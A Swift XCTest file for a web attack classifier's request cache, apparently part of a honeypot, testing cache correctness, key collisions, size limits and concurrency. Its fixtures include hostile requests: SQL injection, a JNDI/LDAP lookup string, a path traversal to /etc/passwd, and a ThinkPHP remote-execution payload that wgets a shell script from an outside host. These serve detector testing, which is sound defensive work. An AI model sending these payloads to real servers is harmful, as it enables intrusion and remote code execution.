import Foundation
import MitsuCore
import XCTest
@testable import MitsuWeb

final class ClassificationCacheTests: XCTestCase {
    /// Every corpus request and its variants, asked twice: the second answer (from the cache) is the
    /// classifier's own, and so are the URLs found.
    func testCachedAnswersAreTheClassifiersOwn() throws {
        let classifier = try ClassifierCorpusTests.classifier()
        let cache = ClassificationCache(capacity: 10_000, maxRequestBytes: 1 << 20)
        let requests = try ClassifierCorpusTests.requestsWithVariants(nonASCII: 20).compactMap(ClassifierCorpusTests.parse)
        XCTAssertGreaterThan(requests.count, 300)
        for r in requests { _ = cache.classify(r, with: classifier) }
        let hitsBefore = cache.hitCount
        for r in requests {
            let cached = cache.classify(r, with: classifier)
            XCTAssertEqual(cached.classification, classifier.classify(r), String(decoding: r.raw.prefix(200), as: UTF8.self))
            XCTAssertEqual(cached.view.any, RequestView(r).any)
            XCTAssertEqual(cache.urls(in: r, entry: cached), URLExtractor.extract(r))
            XCTAssertEqual(cache.urls(in: r, entry: cache.classify(r, with: classifier)), URLExtractor.extract(r))
            let fresh = WebEvents.Recorded(r)
            XCTAssertEqual(cached.recorded.http, fresh.http)
            XCTAssertEqual(cached.recorded.payload, fresh.payload)
        }
        // Every second ask (and the third, for the URLs) is a hit.
        XCTAssertEqual(cache.hitCount - hitsBefore, 2 * requests.count)
    }

    /// One byte apart is another request: an injection is not answered with the clean request's verdict.
    func testRequestsOneByteApartAreClassifiedApart() throws {
        let classifier = try ClassifierCorpusTests.classifier()
        let cache = ClassificationCache()
        let clean = try XCTUnwrap(ClassifierCorpusTests.parse(Array("GET /item.php?id=1 HTTP/1.1\r\nHost: x\r\n\r\n".utf8)))
        let injected = try XCTUnwrap(ClassifierCorpusTests.parse(Array("GET /item.php?id=1'%20OR%20'1'='1 HTTP/1.1\r\nHost: x\r\n\r\n".utf8)))
        XCTAssertEqual(cache.classify(clean, with: classifier).classification.categories, [])
        XCTAssertEqual(cache.classify(clean, with: classifier).classification.categories, [])
        XCTAssertEqual(cache.classify(injected, with: classifier).classification.categories, ["sqli"])
        XCTAssertEqual(cache.classify(injected, with: classifier).classification.categories, ["sqli"])
        XCTAssertEqual(cache.count, 2)
        XCTAssertEqual(cache.hitCount, 2)
        // The same where the two differ only in their last header, past any prefix a key might stop at.
        let head = "GET /item.php?id=1 HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Forwarded-For: "
        for (tail, categories) in [("1", [String]()), ("${jndi:ldap://198.51.100.7/a}", ["jndi"]), ("1", []), ("${jndi:ldap://198.51.100.7/a}", ["jndi"])] {
            let r = try XCTUnwrap(ClassifierCorpusTests.parse(Array((head + tail + "\r\n\r\n").utf8)))
            XCTAssertEqual(cache.classify(r, with: classifier).classification.categories, categories, tail)
        }
        XCTAssertEqual(cache.hitCount, 4)
        XCTAssertEqual(ClassificationCache.Key(bytes: []), ClassificationCache.Key(bytes: []))
        XCTAssertNotEqual(ClassificationCache.Key(bytes: [1, 2]), ClassificationCache.Key(bytes: [1, 3]))
        XCTAssertNotEqual(ClassificationCache.Key(bytes: [1]), ClassificationCache.Key(bytes: [1, 0]))
    }

    /// Long requests, and requests whose raw copy was cut, are classified every time and never stored:
    /// two requests that differ past the cut must not share a verdict.
    func testLongAndTruncatedRequestsAreNotRemembered() throws {
        let classifier = try ClassifierCorpusTests.classifier()
        let cache = ClassificationCache(capacity: 8, maxRequestBytes: 256)
        let long = try XCTUnwrap(ClassifierCorpusTests.parse(Array("GET /?q=\(String(repeating: "a", count: 300)) HTTP/1.1\r\nHost: x\r\n\r\n".utf8)))
        var cut = try XCTUnwrap(ClassifierCorpusTests.parse(Array("GET /short HTTP/1.1\r\nHost: x\r\n\r\n".utf8)))
        cut.rawLength += 100
        for _ in 0..<3 {
            _ = cache.classify(long, with: classifier)
            _ = cache.classify(cut, with: classifier)
            _ = cache.urls(in: long, entry: cache.classify(long, with: classifier))
        }
        XCTAssertEqual(cache.count, 0)
        XCTAssertEqual(cache.hitCount, 0)
        // The event still records what the cut request says of itself.
        XCTAssertEqual(cache.classify(cut, with: classifier).recorded.payload.length, cut.rawLength)
    }

    /// A stream of distinct requests (a fuzzer, a wordlist) never holds more than `capacity` entries, and
    /// what it still holds is right.
    func testCapacityBoundsTheCache() throws {
        let classifier = try ClassifierCorpusTests.classifier()
        let cache = ClassificationCache(capacity: 16)
        var requests: [HTTPRequest] = []
        for i in 0..<100 {
            let path = i % 2 == 0 ? "/p\(i)" : "/p\(i)/../../etc/passwd"
            requests.append(try XCTUnwrap(ClassifierCorpusTests.parse(Array("GET \(path) HTTP/1.1\r\nHost: x\r\n\r\n".utf8))))
            _ = cache.classify(requests[i], with: classifier)
            XCTAssertLessThanOrEqual(cache.count, 16)
        }
        XCTAssertEqual(cache.count, 16)
        for r in requests { XCTAssertEqual(cache.classify(r, with: classifier).classification, classifier.classify(r)) }
    }

    /// Connections on several event loops share one cache.
    func testConcurrentUseAgreesWithTheClassifier() throws {
        let classifier = try ClassifierCorpusTests.classifier()
        let cache = ClassificationCache(capacity: 8)
        let requests = try ClassifierCorpusTests.load("attacks").prefix(24).compactMap { ClassifierCorpusTests.parse($0.raw) }
        let expected = requests.map { classifier.classify($0) }
        // One slot per iteration, so the writes need no lock.
        nonisolated(unsafe) let agreed = UnsafeMutableBufferPointer<Bool>.allocate(capacity: 400)
        defer { agreed.deallocate() }
        agreed.initialize(repeating: false)
        DispatchQueue.concurrentPerform(iterations: 400) { i in
            let k = i % requests.count
            agreed[i] = cache.classify(requests[k], with: classifier).classification == expected[k]
        }
        XCTAssertEqual(agreed.filter { !$0 }.count, 0)
        XCTAssertLessThanOrEqual(cache.count, 8)
    }
}

extension WebSessionTests {
    /// Through a web session: a repeated request is answered and recorded exactly like the first.
    func testARepeatedRequestIsAnsweredAndRecordedLikeTheFirst() throws {
        let ctx = try context()
        let raw = "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.7/x.sh HTTP/1.1\r\nHost: x\r\n\r\n"
        let (first, out1) = try answer(raw, ctx)
        let (second, out2) = try answer(raw, ctx)
        XCTAssertEqual(ctx.classifications.hitCount, 1)
        XCTAssertEqual(first, second)
        XCTAssertEqual(out1.events.map { $0.kind }, out2.events.map { $0.kind })
        XCTAssertEqual(out1.events.map { $0.attack }, out2.events.map { $0.attack })
        let requests = [out1, out2].map { $0.events.first { $0.kind == .httpRequest } }
        XCTAssertEqual(requests[0]?.payload, requests[1]?.payload)
        XCTAssertEqual(requests[1]?.payload?.length, raw.utf8.count)
        XCTAssertEqual(requests[0]?.http, requests[1]?.http)
        XCTAssertEqual(requests[1]?.http?.client, "attacker")
        XCTAssertEqual(out2.events.first { $0.kind == .urlSeen }?.url, "http://198.51.100.7/x.sh")
        XCTAssertEqual(out2.events.first { $0.kind == .httpRequest }?.attack?.cves, ["CVE-2018-20062"])
    }
}
